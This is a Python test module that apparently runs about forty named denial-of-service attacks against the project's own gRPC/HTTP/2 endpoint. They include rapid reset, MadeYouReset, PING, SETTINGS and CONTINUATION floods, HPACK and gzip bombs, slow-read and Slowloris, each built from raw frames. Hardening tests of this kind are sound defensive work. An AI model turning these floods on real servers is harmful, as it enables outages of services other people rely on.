"""Attacks on the gRPC endpoint (HTTP/2) by peers without a credential, named after what is known of them elsewhere."""

from __future__ import annotations

import gzip
import socket
import struct
import threading
from contextlib import suppress
from typing import TYPE_CHECKING

from tests.hostile.harness import MIB
from tests.net.grpc.peer import message, request_fields
from whistlestop.net.grpc import frames
from whistlestop.net.grpc.frames import ErrorCode, frame
from whistlestop.net.grpc.hpack import literal

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable

    from tests.hostile.harness import Attacker

SERVICE = "/temporal.api.workflowservice.v1.WorkflowService"
LIST = f"{SERVICE}/ListNamespaces"
INFO = f"{SERVICE}/GetSystemInfo"
CHECK = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"
REFLECT = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
ATTACKS: dict[str, Callable[[Attacker], None]] = {}
MOST = 4 * MIB
"""Sent by one attack."""
MANY = 700
"""Connections, of which one address may have 512."""
_SIZE = frames.MIN_FRAME_LIMIT
_BOMB = message(gzip.compress(bytes(4_000_000), 9), 1)


def attack(name: str) -> Callable[[Callable[[Attacker], None]], Callable[[Attacker], None]]:
    def named(function: Callable[[Attacker], None]) -> Callable[[Attacker], None]:
        ATTACKS[name] = function
        return function

    return named


def block(path: str, **more: str) -> bytes:
    return b"".join(literal(name.encode(), value.encode()) for name, value in request_fields(path, **more))


def head(stream: int, path: str, *, flags: int = frames.END_HEADERS, **more: str) -> bytes:
    return frame(frames.HEADERS, flags, stream, block(path, **more))


def body(stream: int, data: bytes, *, end: bool = False) -> bytes:
    pieces = [data[at : at + _SIZE] for at in range(0, len(data), _SIZE)]
    last = len(pieces) - 1
    return b"".join(
        frame(frames.DATA, 1 if end and index == last else 0, stream, piece) for index, piece in enumerate(pieces)
    )


def odd() -> Iterable[int]:
    return range(1, 1 << 20, 2)


def greet(attacker: Attacker, *settings: tuple[int, int], reads: bool = True) -> socket.socket:
    """A connection whose answers are read and thrown away, or left where they are."""
    connection = attacker.connect()
    attacker.send(connection, frames.PREFACE + frames.settings(settings))
    if reads:
        threading.Thread(target=_drain, args=(connection.dup(),), daemon=True).start()
    return connection


def _drain(reader: socket.socket) -> None:
    reader.settimeout(600)
    with suppress(OSError):
        while reader.recv(1 << 18):
            pass
    reader.close()


def flood(attacker: Attacker, connection: socket.socket, pieces: Iterable[bytes], most: int = MOST) -> None:
    """Send until that is enough, or until the server takes no more."""
    left, batch, size = most, [], 0
    for piece in pieces:
        batch.append(piece)
        size += len(piece)
        if size >= 65_536:
            if not attacker.send(connection, b"".join(batch)):
                return
            left -= size
            batch, size = [], 0
        if left <= 0:
            break
    attacker.send(connection, b"".join(batch))


def repeat(data: bytes) -> Iterable[bytes]:
    piece = data * max(1, 4_096 // len(data))
    while True:
        yield piece


# -- frames that cost and bring nothing --


@attack("rapid reset (CVE-2023-44487)")
def rapid_reset(attacker: Attacker) -> None:
    reset = [head(n, LIST) + frames.rst_stream(n, ErrorCode.CANCEL) for n in range(1, 60_001, 2)]
    flood(attacker, greet(attacker), reset)


@attack("rapid reset of the method for everybody (CVE-2023-44487)")
def rapid_reset_open(attacker: Attacker) -> None:
    whole = (head(n, INFO) + body(n, message(b""), end=True) + frames.rst_stream(n, ErrorCode.CANCEL) for n in odd())
    flood(attacker, greet(attacker), whole)


@attack("MadeYouReset (CVE-2025-8671): a window opened by nothing")
def made_you_reset(attacker: Attacker) -> None:
    flood(attacker, greet(attacker), (head(n, INFO) + frames.window_update(n, 0) for n in odd()))


@attack("MadeYouReset (CVE-2025-8671): a window beyond 2^31-1")
def made_you_reset_window(attacker: Attacker) -> None:
    flood(attacker, greet(attacker), (head(n, WATCH) + frames.window_update(n, frames.MAX_WINDOW) for n in odd()))


@attack("MadeYouReset (CVE-2025-8671): DATA behind the end")
def made_you_reset_data(attacker: Attacker) -> None:
    watch = (head(n, WATCH) + body(n, message(b""), end=True) + body(n, b"x") for n in odd())
    flood(attacker, greet(attacker), watch)


@attack("PING flood (CVE-2019-9512)")
def pings(attacker: Attacker) -> None:
    flood(attacker, greet(attacker), repeat(frame(frames.PING, 0, 0, bytes(8))))


@attack("SETTINGS flood (CVE-2019-9515)")
def settings_flood(attacker: Attacker) -> None:
    flood(attacker, greet(attacker), repeat(frames.settings(())))


@attack("SETTINGS that change all windows, 2,730 times a frame")
def settings_amplified(attacker: Attacker) -> None:
    connection = greet(attacker)
    flood(attacker, connection, [head(n, INFO) for n in range(1, 20_001, 2)])
    flips = b"".join(struct.pack(">HI", 4, 65_535 + n % 2) for n in range(2_730))
    flood(attacker, connection, repeat(frame(frames.SETTINGS, 0, 0, flips)))


@attack("SETTINGS that change all windows, once a frame")
def settings_small(attacker: Attacker) -> None:
    connection = greet(attacker, (frames.INITIAL_WINDOW_SIZE, 0))
    flood(attacker, connection, [head(n, WATCH) + body(n, message(b""), end=True) for n in range(1, 201, 2)])
    one, none = (frames.settings(((frames.INITIAL_WINDOW_SIZE, n),)) for n in (1, 0))
    flood(attacker, connection, repeat(one + none))


@attack("reset flood (CVE-2019-9514): heads that are none")
def reset_flood(attacker: Attacker) -> None:
    flood(attacker, greet(attacker), (frame(frames.HEADERS, 5, n, literal(b"Upper", b"x")) for n in odd()))


@attack("empty DATA (CVE-2019-9518)")
def empty_data(attacker: Attacker) -> None:
    connection = greet(attacker)
    attacker.send(connection, head(1, INFO))
    flood(attacker, connection, repeat(frame(frames.DATA, 0, 1)))


@attack("empty header blocks (CVE-2019-9518)")
def empty_headers(attacker: Attacker) -> None:
    flood(attacker, greet(attacker), (frame(frames.HEADERS, frames.END_HEADERS, n) for n in odd()))


@attack("DATA that is padding (CVE-2019-9518)")
def padding(attacker: Attacker) -> None:
    connection = greet(attacker)
    attacker.send(connection, head(1, INFO))
    flood(attacker, connection, repeat(frame(frames.DATA, frames.PADDED, 1, b"\xff" + bytes(255))))


@attack("PRIORITY flood (CVE-2019-9513)")
def priorities(attacker: Attacker) -> None:
    flood(attacker, greet(attacker), (frame(frames.PRIORITY, 0, n, struct.pack(">IB", n + 2, 7)) for n in odd()))


@attack("WINDOW_UPDATE flood")
def window_updates(attacker: Attacker) -> None:
    flood(attacker, greet(attacker), repeat(frames.window_update(0, 1)))


@attack("RST_STREAM flood on streams that are over")
def reset_over(attacker: Attacker) -> None:
    connection = greet(attacker)
    attacker.send(connection, head(1, LIST, flags=frames.END_HEADERS | frames.END_STREAM))
    flood(attacker, connection, repeat(frames.rst_stream(1, ErrorCode.CANCEL)))


@attack("frames of unknown extensions (RFC 8701)")
def grease(attacker: Attacker) -> None:
    flood(attacker, greet(attacker), repeat(frame(0xB, 0, 0)))


@attack("GOAWAY flood")
def goaways(attacker: Attacker) -> None:
    flood(attacker, greet(attacker), repeat(frame(frames.GOAWAY, 0, 0, bytes(8))))


# -- header blocks --


@attack("CONTINUATION flood (CVE-2024-27316, CVE-2023-45288)")
def continuations(attacker: Attacker) -> None:
    connection = greet(attacker)
    attacker.send(connection, head(1, LIST, flags=0))
    flood(attacker, connection, repeat(frame(frames.CONTINUATION, 0, 1, literal(b"x", b"y" * 16_000))))


@attack("empty CONTINUATION (CVE-2024-27919)")
def empty_continuations(attacker: Attacker) -> None:
    connection = greet(attacker)
    attacker.send(connection, head(1, LIST, flags=0))
    flood(attacker, connection, repeat(frame(frames.CONTINUATION, 0, 1)))


@attack("HPACK bomb (CVE-2016-6581)")
def hpack_bomb(attacker: Attacker) -> None:
    connection = greet(attacker)
    entry = b"\x40\x01x" + b"\x7f\xb1\x1e" + bytes(b"y" * 4_016)
    attacker.send(connection, frame(frames.HEADERS, 5, 1, block(LIST) + entry))
    bombs = (frame(frames.HEADERS, 5, n, block(LIST) + b"\xbe" * 16_000) for n in range(3, 1 << 20, 2))
    flood(attacker, connection, bombs)


@attack("HPACK bomb of small fields (CVE-2025-53020)")
def hpack_small(attacker: Attacker) -> None:
    connection = greet(attacker)
    attacker.send(connection, frame(frames.HEADERS, 5, 1, block(LIST) + b"\x40\x01x\x00"))
    fields = block(LIST) + b"\xbe" * 505
    flood(attacker, connection, (frame(frames.HEADERS, 5, n, fields) for n in range(3, 1 << 20, 2)))


@attack("HPACK table thrash")
def hpack_thrash(attacker: Attacker) -> None:
    resized = b"\x20\x3f\xe1\x1f" * 1_000
    fills = b"\x40\x00\x00" * 3_900
    flood(attacker, greet(attacker), (frame(frames.HEADERS, 5, n, resized + fills) for n in odd()))


@attack("Huffman codes that are rare")
def rare_huffman(attacker: Attacker) -> None:
    # Each 0xff 0xff 0xff 0xfX is a code of 28 bits or so; what the strings mean does not matter.
    text = b"".join(bytes((0xFF, 0xFF, 0xFE | n & 1, 0x20 | n & 0xF)) for n in range(4_000))
    blocks = block(LIST) + b"\x00\x01x" + b"\xff\x81\x7c" + text[:16_000]
    flood(attacker, greet(attacker), (frame(frames.HEADERS, 5, n, blocks[:_SIZE]) for n in odd()))


@attack("headers without a name (CVE-2019-9516)")
def nameless(attacker: Attacker) -> None:
    flood(attacker, greet(attacker), (frame(frames.HEADERS, 5, n, b"\x00\x00\x00" * 5_000) for n in odd()))


@attack("large metadata")
def metadata(attacker: Attacker) -> None:
    flood(attacker, greet(attacker), (head(n, LIST, x_long="y" * 15_000) for n in odd()))


@attack("large trailers")
def trailers(attacker: Attacker) -> None:
    large = literal(b"x", b"y" * 15_000)
    flood(attacker, greet(attacker), (head(n, INFO) + frame(frames.HEADERS, 5, n, large) for n in odd()))


@attack("keys that are wrong")
def wrong_keys(attacker: Attacker) -> None:
    flood(attacker, greet(attacker), (head(n, LIST, authorization=f"Bearer wsk_{n}") for n in odd()))


# -- bodies --


@attack("bodies to methods that do not exist")
def unknown_bodies(attacker: Attacker) -> None:
    part = body(1, message(bytes(MIB)))
    flood(attacker, greet(attacker), (head(n, "/no.Such/Method") + part.replace(_one(1), _one(n)) for n in odd()))


def _one(number: int) -> bytes:
    """The flags and stream number in the head of a DATA frame."""
    return b"\x00" + struct.pack(">I", number)


@attack("small bodies, unfinished, 16,000 bytes each")
def small_bodies(attacker: Attacker) -> None:
    part = bytes(16_000)
    flood(attacker, greet(attacker), (head(n, LIST) + frame(frames.DATA, 0, n, part) for n in odd()))


@attack("bodies of the method for everybody, unfinished")
def open_bodies(attacker: Attacker) -> None:
    part = message(bytes(4_096))[:4_000]
    for _ in range(100):
        flood(attacker, greet(attacker), [head(n, INFO) + frame(frames.DATA, 0, n, part) for n in range(1, 201, 2)])


@attack("gzip bombs to Health/Watch")
def watch_bombs(attacker: Attacker) -> None:
    flood(attacker, greet(attacker), (head(n, WATCH, grpc_encoding="gzip") + body(n, _BOMB) for n in odd()))


@attack("gzip bombs to reflection")
def reflection_bombs(attacker: Attacker) -> None:
    flood(attacker, greet(attacker), (head(n, REFLECT, grpc_encoding="gzip") + body(n, _BOMB) for n in odd()))


@attack("gzip bombs to Health/Check")
def check_bombs(attacker: Attacker) -> None:
    bombs = (head(n, CHECK, grpc_encoding="gzip") + body(n, _BOMB, end=True) for n in odd())
    flood(attacker, greet(attacker), bombs)


@attack("messages to Health/Watch, which reads one")
def watch_messages(attacker: Attacker) -> None:
    connection = greet(attacker)
    attacker.send(connection, head(1, WATCH))
    flood(attacker, connection, repeat(body(1, message(bytes(500)))))


# -- answers that are not read --

_SYMBOL = b"temporal.api.workflowservice.v1.WorkflowService"
_ASK = message(bytes((0x22, len(_SYMBOL))) + _SYMBOL)
"""For the descriptors of all that the service needs, which are large."""


@attack("internal data buffering (CVE-2019-9517): answers that are not fetched")
def unread(attacker: Attacker) -> None:
    windows = frames.window_update(0, 1 << 30)
    for _ in range(20):
        connection = greet(attacker, (frames.INITIAL_WINDOW_SIZE, 1 << 30), reads=False)
        attacker.send(connection, windows)
        flood(attacker, connection, [head(n, REFLECT) + body(n, _ASK) for n in range(1, 41, 2)], MIB)


@attack("windows that stay shut (CVE-2019-9517, slow read)")
def shut_windows(attacker: Attacker) -> None:
    for _ in range(20):
        connection = greet(attacker, (frames.INITIAL_WINDOW_SIZE, 0))
        flood(attacker, connection, [head(n, REFLECT) + body(n, _ASK) for n in range(1, 41, 2)], MIB)


@attack("data dribble (CVE-2019-9511): windows of one byte")
def dribble(attacker: Attacker) -> None:
    connection = greet(attacker, (frames.INITIAL_WINDOW_SIZE, 0))
    attacker.send(connection, head(1, REFLECT) + body(1, _ASK))
    flood(attacker, connection, repeat(frames.window_update(1, 1)))


# -- streams and connections --


@attack("10,000 unfinished streams")
def streams(attacker: Attacker) -> None:
    flood(attacker, greet(attacker), [head(n, INFO) for n in range(1, 20_001, 2)])


@attack("Slowloris (2009): header blocks that do not end")
def slow_heads(attacker: Attacker) -> None:
    for _ in range(MANY):
        attacker.send(greet(attacker, reads=False), head(1, LIST, flags=0, x="y" * 1_000))


@attack("connections that say nothing")
def silence(attacker: Attacker) -> None:
    for _ in range(MANY):
        attacker.connect()


@attack("connections that come and go")
def churn(attacker: Attacker) -> None:
    for _ in range(MANY):
        connection = attacker.connect()
        attacker.send(connection, frames.PREFACE + frames.settings(()))
        connection.close()


@attack("frames byte by byte")
def byte_by_byte(attacker: Attacker) -> None:
    connection = greet(attacker)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    data = head(1, LIST) + frame(frames.PING, 0, 0, bytes(8)) * 100
    for at in range(len(data)):
        if not attacker.send(connection, data[at : at + 1]):
            return
